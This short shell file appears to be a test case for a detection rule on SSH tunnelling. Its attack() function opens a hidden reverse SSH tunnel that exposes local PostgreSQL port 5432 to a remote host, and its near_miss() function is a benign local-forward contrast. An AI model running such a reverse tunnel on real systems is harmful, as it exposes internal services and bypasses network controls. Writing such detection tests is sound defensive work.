# rule: SSH used as a tunnel into this network
# where: host
# needs: ssh
attack() {
    ssh -o BatchMode=yes -fN -R 15432:127.0.0.1:5432 u@192.0.2.9 2> /dev/null || :
}
near_miss() {
    ssh -o BatchMode=yes -fN -L 15432:127.0.0.1:5432 u@192.0.2.9 2> /dev/null || :
}
